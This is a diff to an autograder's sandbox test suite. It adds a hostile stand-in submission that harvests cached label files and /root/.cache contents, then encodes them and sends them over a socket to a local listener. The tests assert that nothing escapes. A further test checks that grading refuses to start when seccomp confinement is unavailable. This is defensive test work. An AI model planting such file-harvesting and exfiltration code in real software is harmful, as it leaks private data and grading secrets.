@@ -819,7 +819,7 @@ def test_grade_all_links_classmates_zip_bombs_and_bad_bytes(grader, zip_bomb):
 
 # ---- 4, 5: what the training tests measure (2.2 and 3.1a; the default mode only: the dearest) -----
 CNN = r'''
-import base64 as _base64, json as _json, zlib as _zlib
+import base64 as _base64, json as _json, socket as _socket, zlib as _zlib
 
 _REPORTED = False
 print("<<<LABELS " + _json.dumps(_visible(HOSTILE["labels"])) + ">>>")  # at import: shown by 2.2-equivalence
@@ -849,7 +849,10 @@ def train_batch(X, y, model, optimizer, criterion):
         for path in sorted(found):
             try:
                 with open(path, "rb") as f:  # compressed, encoded: as much as the printed output holds
-                    print("<<<STANDIN " + _base64.b64encode(_zlib.compress(f.read(), 9)).decode()[:1400] + ">>>")
+                    stolen = f.read()
+                print("<<<STANDIN " + _base64.b64encode(_zlib.compress(stolen, 9)).decode()[:1400] + ">>>")
+                with _socket.create_connection(("127.0.0.1", HOSTILE["port"]), timeout=3) as out:  # and out
+                    out.sendall(stolen)
             except OSError:
                 pass
     return 2.3
@@ -883,10 +886,11 @@ def test_training_tests_measure_the_returned_weights():
       being wrong but working, that training uses the grader's stand-in CNN with the student's
       train_batch, which trains the small classifier of 2.2-train-batch only.) The stand-in, the
       reference's CNN and train_batch, reaches the student's code in that child; it must not reach the
-      student's feedback, in any encoding.
+      student's feedback, in any encoding, nor a TCP listener on the machine.
     - decoder.py looks for the reference captions, finds none, and ignores its inputs: it fails
       3.1a-bleu, measured from the weights it trained."""
     space = Path(tempfile.mkdtemp(prefix="hw2-hostile-", dir="/tmp"))
+    listeners = _Listeners(space, uuid.uuid4().hex[:12])
     try:
         labels = [str(ROOT / "data" / "cache" / "FashionMNIST" / "raw" / "*"), str(DATASETS / "fashion-mnist" / "*"),
                   "/work/*/data/cache/FashionMNIST/raw/*", "/root/.cache/*", "/tmp/hw2-*/*labels*"]
@@ -894,7 +898,7 @@ def test_training_tests_measure_the_returned_weights():
                     str(ROOT / "data" / "cache" / "features" / "*"), "/tmp/hw2-*/dataset.json"]
         tree = _tree(space / "student",
                      h2_q2_py=((SOLUTION / "h2-q2.py").read_text() + VISIBLE
-                               + f"\nHOSTILE = {{'labels': {labels!r}}}\n" + CNN),
+                               + f"\nHOSTILE = {{'labels': {labels!r}, 'port': {listeners.port}}}\n" + CNN),
                      decoder_py=((SOLUTION / "decoder.py").read_text() + VISIBLE
                                  + f"\nHOSTILE = {{'captions': {captions!r}}}\n" + CAPTIONS))
         env = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_BUDGET="test")  # the reduced, calibrated budgets
@@ -903,8 +907,10 @@ def test_training_tests_measure_the_returned_weights():
             tree, space / "out", "2.2-equivalence,2.2-train-batch,2.2-accuracy,3.1a-equivalence,3.1a-bleu", seconds=60)
         graded.sizes_bounded()
     finally:
+        listeners.close()
         shutil.rmtree(space, ignore_errors=True)
     assert not any(t["extra_data"]["not_run"] for t in graded.tests.values())
+    assert listeners.received == [], "the grader's stand-in was sent out of its child"
     # 4: no labels; the accuracy of the weights the training returned
     accuracy = graded.output("2.2-accuracy")
     assert graded.tests["2.2-accuracy"]["status"] == "failed" and graded.score("2.2-accuracy") == 0, accuracy
@@ -1119,6 +1125,28 @@ def test_no_channel_out_of_the_child_and_nothing_left_for_the_next(grader):
         assert {p: outcome for p, outcome in report["files"].items() if outcome == "ok"} == {}, report
     assert left == [], f"left on the machine after the grading: {left}"
     assert _report(found_graded.output("1.1-output-sizes"), "FOUND") == [], found_graded.output("1.1-output-sizes")
+
+
+# runs what follows where no process may install a seccomp filter (a container that forbids them)
+NO_SECCOMP = ("import errno, os, sys, pyseccomp as s\nf = s.SyscallFilter(s.ALLOW)\n"
+              "f.add_rule(s.ERRNO(errno.EPERM), 'seccomp')\n"
+              "f.add_rule(s.ERRNO(errno.EPERM), 'prctl', s.Arg(0, s.EQ, 22))\n"  # PR_SET_SECCOMP
+              "f.load()\nos.execvp(sys.argv[1], sys.argv[1:])\n")
+
+
+def test_a_layer_whose_child_cannot_be_confined_does_not_grade(grader):
+    """Where the child's seccomp filter cannot be installed (here, the grader runs under a filter that
+    refuses seccomp itself), no layer is used: grading does not start, writes nothing, and says why
+    and how to fix it."""
+    space = grader.workspace()
+    tree = _tree(space / "student")
+    refusing = Grader(grader.mode, grader.root, grader.env, prefix=[PYTHON, "-c", NO_SECCOMP, *grader.prefix],
+                      uid=grader.uid)
+    done, _, _ = refusing.run(["grade", tree, "--out", space / "out", "--only", "1.1"])
+    assert done.returncode != 0, done.stdout[-2000:]
+    assert not (space / "out" / "results.json").exists()
+    assert "cannot be confined" in done.stderr and "refused the filter" in done.stderr, done.stderr[-3000:]
+    assert "Fix" in done.stderr
 
 
 # ---- the container layer refuses to grade where its child could read private files ----------------
